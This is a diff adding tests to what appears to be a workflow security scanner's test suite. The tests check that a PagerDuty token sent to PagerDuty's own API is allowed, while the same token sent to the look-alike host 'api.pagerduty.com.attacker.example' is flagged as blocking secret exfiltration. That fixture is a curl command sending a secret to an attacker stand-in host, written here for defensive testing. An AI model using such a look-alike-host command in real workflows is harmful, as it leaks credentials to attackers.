@@ -87,6 +87,33 @@ describe('exfiltration in every shape', () => {
   })
 })
 
+describe('a service\'s own key to that service (bot workflows)', () => {
+  const bot = (host: string) => `name: Page on-call
+on:
+  issues:
+    types: [opened]
+permissions: {}
+jobs:
+  page:
+    runs-on: ubuntu-latest
+    steps:
+      - run: |
+          curl -sSf -X POST -H "Authorization: Token token=$PD_TOKEN" -H "Content-Type: application/json" \\
+            https://${host}/incidents -d '{"incident": {"type": "incident", "title": "New issue"}}'
+        env:
+          PD_TOKEN: \${{ secrets.PAGERDUTY_TOKEN }}
+`
+  const exfil = (text: string) => both(text, 'page').cli.findings.filter((f) => f.rule === 'secret-exfiltration')
+
+  it('a PagerDuty key to PagerDuty\'s API is not exfiltration', () => {
+    expect(exfil(bot('api.pagerduty.com'))).toEqual([])
+  })
+
+  it('the same key to a look-alike host still is', () => {
+    expect(exfil(bot('api.pagerduty.com.attacker.example')).map((f) => f.blocking)).toEqual([true])
+  })
+})
+
 /** The job-level variable case needs the binding on the job. */
 function what(step: string): string {
   const t = job(step)
